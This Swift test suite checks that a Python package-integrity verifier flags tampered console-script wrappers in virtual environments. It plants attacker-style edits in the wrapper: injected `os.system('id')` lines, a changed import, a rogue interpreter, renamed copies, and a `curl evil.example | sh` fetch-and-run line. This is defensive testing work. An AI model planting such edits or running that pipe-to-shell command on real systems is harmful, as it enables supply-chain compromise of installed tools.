import Foundation
import Testing

/// Console-script wrappers end to end: the `clitool` fixture wheel (`clitool = clitool:main`)
/// installed by real pip, real uv and real pypa `installer` from our own server into real venvs,
/// then tampered with as an attacker who controls `bin/` would, and verified by the real binary.
///
/// uv and `installer` come from the package registry: `.ci/run` installs them into a tool venv and
/// exports `WHEELTRUST_TEST_UV` and `WHEELTRUST_TEST_INSTALLER_PYTHON` (a Python that can import
/// `installer`). Without them those tests are skipped, except under CI, where
/// ``installersAreThereUnderCI()`` fails.
@Suite("console-script wrappers end to end")
struct WrapperEndToEndTests {
    static let uv = ProcessInfo.processInfo.environment["WHEELTRUST_TEST_UV"].flatMap { $0.isEmpty ? nil : $0 }
    static let installerPython = ProcessInfo.processInfo.environment["WHEELTRUST_TEST_INSTALLER_PYTHON"]
        .flatMap { $0.isEmpty ? nil : $0 }
    static let underCI = ProcessInfo.processInfo.environment["CI"].map { !$0.isEmpty } ?? false

    @Test("under CI, uv and installer are there for the tests that install with them", .enabled(if: underCI))
    func installersAreThereUnderCI() {
        #expect(
            Self.uv.map { FileManager.default.isExecutableFile(atPath: $0) } == true,
            "WHEELTRUST_TEST_UV must name the uv binary (.ci/run installs it)")
        #expect(
            Self.installerPython.map { FileManager.default.isExecutableFile(atPath: $0) } == true,
            "WHEELTRUST_TEST_INSTALLER_PYTHON must name a Python that imports installer (.ci/run installs it)")
    }

    // MARK: clean baselines and one edit per installer

    @Test("pip's wrapper verifies as generated; one appended line makes it modified")
    func pipBaseline() async throws {
        try await Scenario.with(packages: ["clitool"]) { scenario in
            try await expectCleanThenTampered(scenario, template: "pip 19.3–25.1")
        }
    }

    @Test("uv's wrapper verifies as generated; one appended line makes it modified", .enabled(if: uv != nil))
    func uvBaseline() async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            let uv = try #require(Self.uv)
            let installed = try await TestProcess.run(
                uv,
                [
                    "pip", "install", "--no-config", "--python", scenario.python, "--index-url", scenario.indexURL,
                    "--cache-dir", scenario.root + "/uv-cache", "clitool",
                ], environment: ["HOME": scenario.root])
            try #require(installed.status == 0, "uv pip install: \(installed.output)")
            let installer = try String(contentsOfFile: try distInfo(scenario) + "/INSTALLER", encoding: .utf8)
            #expect(installer.hasPrefix("uv"), "uv installed it: \(installer)")
            try await expectCleanThenTampered(scenario, template: "uv ≥ 0.5.20")
        }
    }

    @Test("installer's wrapper verifies as generated; one appended line makes it modified", .enabled(if: installerPython != nil))
    func installerBaseline() async throws {
        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
            let tools = try #require(Self.installerPython)
            let located = try await TestProcess.run(
                tools, ["-c", "import installer, os; print(os.path.dirname(os.path.dirname(installer.__file__)))"])
            try #require(located.status == 0, "the installer Python cannot import installer: \(located.output)")
            let site = located.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            // The venv's own interpreter runs `installer`, as `python -m installer` is meant to be run:
            // it installs into that interpreter's scheme with that interpreter in the shebang.
            let installed = try await TestProcess.run(
                scenario.python,
                [
                    "-m", "installer", scenario.indexDirectory + "/clitool-2.0-py3-none-any.whl",
                ], environment: ["PYTHONPATH": site])
            try #require(installed.status == 0, "python -m installer: \(installed.output)")
            try await expectCleanThenTampered(scenario, template: "installer, uv ≤ 0.5.19")
        }
    }

    /// The wrapper verifies with the named template; with a line appended it is `modified`.
    func expectCleanThenTampered(
        _ scenario: Scenario, template: String,
        sourceLocation: SourceLocation = #_sourceLocation
    ) async throws {
        let wrapper = scenario.venv + "/bin/clitool"
        let clean = try await scenario.wheeltrust(["verify", "clitool", "-v"])
        #expect(clean.status == 0, "\(clean.output)", sourceLocation: sourceLocation)
        #expect(clean.stdout.contains("console-script wrapper (\(template))"), "\(clean.output)", sourceLocation: sourceLocation)
        let json = try await scenario.wheeltrust(["verify", "--all", "--format", "json"])
        #expect(json.status == 0, "every package of the environment verifies: \(json.output)", sourceLocation: sourceLocation)
        let package = try clitoolReport(json)
        #expect(check(package, "installed-files")?.status == "pass", sourceLocation: sourceLocation)
        #expect(files(package, "generated").contains(wrapper), sourceLocation: sourceLocation)

        try append("import os; os.system('id')\n", to: wrapper)
        try await expectModified(
            scenario, path: wrapper, note: "not any installer's wrapper of the declared entry point clitool = clitool:main",
            sourceLocation: sourceLocation)
    }

    // MARK: tampering with pip's wrapper

    enum Tamper: String, CaseIterable, Sendable {
        case lineAfter = "a line added after the template"
        case lineBefore = "a line added before the template"
        case editedImport = "the import edited"
        case otherInterpreter = "the shebang changed to another interpreter"
        case addedInterpreter = "the shebang changed to a bin/python3.99 the attacker added"
        case rowDropped = "the installed RECORD row for the wrapper dropped, the wrapper edited"
        case recordDeleted = "the whole installed RECORD deleted, any content in the wrapper"
        case alias = "a copy of the wrapper under another name"
        case symlink = "a symlink in place of the wrapper"
        case nonUTF8Alias = "a copy of the wrapper under a name that is not UTF-8"
    }

    @Test("a tampered wrapper fails installed-files, listed as modified with its note", arguments: Tamper.allCases)
    func tamperedWrapper(_ tamper: Tamper) async throws {
        try await Scenario.with(packages: ["clitool"]) { scenario in
            let bin = scenario.venv + "/bin"
            let wrapper = bin + "/clitool"
            let genuine = try String(contentsOfFile: wrapper, encoding: .utf8)
            let record = try distInfo(scenario) + "/RECORD"
            var path = wrapper
            var note = "not any installer's wrapper of the declared entry point clitool = clitool:main"
            switch tamper {
            case .lineAfter:
                try append("import os; os.system('id')\n", to: wrapper)
            case .lineBefore:
                let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
                try write(lines[0] + "\nimport os; os.system('id')\n" + lines[1], to: wrapper)
                note += " (text added between its #! line and the template)"
            case .editedImport:
                #expect(genuine.contains("from clitool import main"))
                try write(genuine.replacingOccurrences(of: "from clitool import main", with: "from evil import main"), to: wrapper)
            case .otherInterpreter:
                let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
                try write("#!\(TestProcess.python3)\n" + lines[1], to: wrapper)
                note += " (its #! line runs no interpreter of this environment)"
            case .addedInterpreter:
                try write("#!/bin/sh\nid\n", to: bin + "/python3.99")
                #expect(chmod(bin + "/python3.99", 0o755) == 0)
                let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
                try write("#!\(bin)/python3.99\n" + lines[1], to: wrapper)
                note += " (its #! line runs no interpreter of this environment)"
            case .rowDropped:
                let rows = try String(contentsOfFile: record, encoding: .utf8).split(separator: "\n").filter {
                    !$0.hasPrefix("../../../bin/clitool,")
                }
                try write(rows.joined(separator: "\n") + "\n", to: record)
                try append("import os; os.system('id')\n", to: wrapper)
            case .recordDeleted:
                try FileManager.default.removeItem(atPath: record)
                try write("#!/bin/sh\ncurl evil.example | sh\n", to: wrapper)
            case .alias:
                path = bin + "/ls"
                try FileManager.default.copyItem(atPath: wrapper, toPath: path)
                note = "a copy of the wrapper of the declared entry point clitool = clitool:main under another name"
            case .nonUTF8Alias:
                let copied = try await TestProcess.run("/bin/sh", ["-c", #"cp "$0" "$(printf '%s/cli\377tool' "$1")""#, wrapper, bin])
                try #require(copied.status == 0, "\(copied.output)")
                path = bin + "/cli\u{FFFD}tool"
                note = "a copy of the wrapper of the declared entry point clitool = clitool:main under another name"
            case .symlink:
                let elsewhere = scenario.root + "/clitool-elsewhere"
                try FileManager.default.moveItem(atPath: wrapper, toPath: elsewhere)
                try FileManager.default.createSymbolicLink(atPath: wrapper, withDestinationPath: elsewhere)
                note = "a symbolic link where installers write a regular file"
            }
            if tamper == .addedInterpreter {
                // A `python*` in the environment's bin/ that is not its base interpreter stops the run
                // before any wrapper is judged: the environment's interpreter is not trusted (exit 3).
                let result = try await scenario.wheeltrust(["verify", "clitool", "--format", "json"])
                #expect(result.status == 3, "\(result.output)")
                #expect(result.stderr.contains(bin + "/python3.99"), "\(result.stderr)")
                return
            }
            try await expectModified(scenario, path: path, note: note)
            if tamper == .alias {
                let json = try await scenario.wheeltrust(["verify", "clitool", "--format", "json"])
                #expect(try files(clitoolReport(json), "generated").contains(wrapper), "the original stays generated")
            }
        }
    }

    /// `verify clitool --format json` fails in `installed-files`, lists `path` as modified and says why.
    func expectModified(
        _ scenario: Scenario, path: String, note: String,
        sourceLocation: SourceLocation = #_sourceLocation
    ) async throws {
        let result = try await scenario.wheeltrust(["verify", "clitool", "--format", "json"])
        #expect(result.status == 1, "\(result.output)", sourceLocation: sourceLocation)
        let package = try clitoolReport(result)
        #expect(package["status"] as? String == "failed", sourceLocation: sourceLocation)
        let installedFiles = check(package, "installed-files")
        #expect(installedFiles?.status == "fail", "\(result.stdout)", sourceLocation: sourceLocation)
        #expect(
            installedFiles?.detail.contains("\(path): ") == true && installedFiles?.detail.contains(note) == true,
            "the check names the wrapper and why: \(installedFiles?.detail ?? "")", sourceLocation: sourceLocation)
        #expect(files(package, "modified") == [path], "\(result.stdout)", sourceLocation: sourceLocation)
        let verbose = try await scenario.wheeltrust(["verify", "clitool", "-v"])
        #expect(verbose.stdout.contains(note), "the file's own line says why: \(verbose.output)", sourceLocation: sourceLocation)
    }

    // MARK: helpers

    func distInfo(_ scenario: Scenario) throws -> String {
        scenario.sitePackages + "/clitool-2.0.dist-info"
    }

    func clitoolReport(_ result: ProcessResult) throws -> [String: Any] {
        let object = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any], "\(result.output)")
        let packages = try #require(object["packages"] as? [[String: Any]])
        return try #require(packages.first { $0["name"] as? String == "clitool" }, "\(result.stdout)")
    }

    func check(_ package: [String: Any], _ name: String) -> (status: String, detail: String)? {
        guard let checks = package["checks"] as? [[String: Any]],
            let found = checks.first(where: { $0["name"] as? String == name })
        else { return nil }
        return (found["status"] as? String ?? "", found["detail"] as? String ?? "")
    }

    func files(_ package: [String: Any], _ kind: String) -> [String] {
        (package["files"] as? [String: Any])?[kind] as? [String] ?? []
    }

    func write(_ text: some StringProtocol, to path: String) throws {
        try String(text).write(toFile: path, atomically: false, encoding: .utf8)
    }

    func append(_ text: String, to path: String) throws {
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
        defer { try? handle.close() }
        try handle.seekToEnd()
        try handle.write(contentsOf: Data(text.utf8))
    }
}
